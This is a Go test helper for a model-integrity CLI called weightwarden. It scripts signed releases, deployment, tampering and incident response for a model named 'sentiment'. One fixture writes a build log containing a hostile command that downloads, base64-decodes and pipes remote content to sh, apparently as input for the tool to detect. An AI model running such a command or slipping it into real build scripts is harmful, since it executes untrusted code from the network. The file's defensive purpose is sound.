package cli_test

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"time"

	"github.com/rogpeppe/go-internal/testscript"
)

type chapter struct {
	name string
	tell func(*teller)
}

// chapters are the stages of the story, in order; each begins where the one
// before has ended.
var chapters = []chapter{
	{"released", released},
	{"deployed", deployed},
	{"tampered", tampered},
	{"declared", declared},
	{"sealed", sealed},
	{"isolated", isolated},
	{"recovered", recovered},
}

// story CHAPTER brings the world of a script to that point: a model store with
// two signed versions of the model "sentiment", its deployment, an attack and
// the answer. From "declared" on, $ID is the incident. A script may stop in
// between, set another clock, and have the story go on.
func story(ts *testscript.TestScript, neg bool, args []string) {
	if neg || len(args) != 1 {
		ts.Fatalf("usage: story CHAPTER")
	}
	at := func(name string) int {
		return slices.IndexFunc(chapters, func(c chapter) bool { return c.name == name })
	}
	told, last := at(ts.Getenv("CHAPTER")), at(args[0])
	if last <= told {
		ts.Fatalf("there is no chapter %s, or it was told", args[0])
	}
	for _, c := range chapters[told+1 : last+1] {
		c.tell(&teller{ts})
	}
	ts.Setenv("CHAPTER", args[0])
}

type teller struct{ *testscript.TestScript }

// run runs the program, which has to end with the code.
func (t *teller) run(code int, args ...string) {
	if got := exitOf(t.TestScript, t.Exec("weightwarden", args...)); got != code {
		t.Fatalf("weightwarden %s: exit code %d instead of %d", strings.Join(args, " "), got, code)
	}
}

func (t *teller) write(name, content string) {
	path := t.MkAbs(name)
	t.Check(os.MkdirAll(filepath.Dir(path), 0o700))
	t.Check(os.WriteFile(path, []byte(content), 0o600))
}

const storyConfig = `models:
  - id: sentiment
    path: models/sentiment
    critical: true
    archive: archive
trust:
  public_keys: [release.pub]
python:
  environments: [venv]
`

func released(t *teller) {
	t.write("config.yaml", storyConfig)
	t.write("venv/lib/python3.11/site-packages/torch-2.2.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: torch\nVersion: 2.2.0\n")
	t.write("build.log", "step 1: checkout\nstep 2: curl http://203.0.113.7/p | base64 -d | sh\n")
	t.run(0, "key", "generate", "--out", "release")
	t.run(0, "deny", "list") // makes the state directory, so that signing is recorded
	for _, version := range []string{"1", "2"} {
		dir := "archive/sentiment-v" + version
		t.write(dir+"/model.bin", "weights of version "+version+"\n")
		t.write(dir+"/config.json", `{"version": `+version+"}\n")
		t.sign(dir, version == "1")
	}
}

// sign signs a version now or, where the clock stands still, the day before.
func (t *teller) sign(dir string, dayBefore bool) {
	now := t.Getenv("WW_TEST_NOW")
	if at, err := time.Parse(time.RFC3339, now); err == nil && dayBefore {
		t.Setenv("WW_TEST_NOW", at.AddDate(0, 0, -1).Format(time.RFC3339))
		defer t.Setenv("WW_TEST_NOW", now)
	}
	t.run(0, "sign", dir, "--private-key", "release.pem")
}

func deployed(t *teller) {
	t.Check(os.CopyFS(t.MkAbs("models/sentiment"), os.DirFS(t.MkAbs("archive/sentiment-v2"))))
	t.run(0, "baseline", "create", "sentiment")
	t.run(0, "verify", "archive/sentiment-v2")
}

func tampered(t *teller) {
	t.write("models/sentiment/model.bin", "weights of version X\n")
	t.write("models/sentiment/.signatures/helper.py", "print('no part of any release')\n")
	t.run(1, "-o", "json", "check")
	t.write("check.json", t.ReadFile("stdout"))
}

func declared(t *teller) {
	t.run(0, "-o", "json", "incident", "open", "--from-check", "check.json")
	t.Setenv("ID", jsonAt(t.TestScript, "stdout", "incident_id"))
}

func sealed(t *teller) { t.run(0, "incident", "assess", t.Getenv("ID")) }

func isolated(t *teller) { t.run(0, "incident", "isolate", t.Getenv("ID"), "--apply") }

func recovered(t *teller) { t.run(0, "incident", "rollback", t.Getenv("ID"), "--apply") }
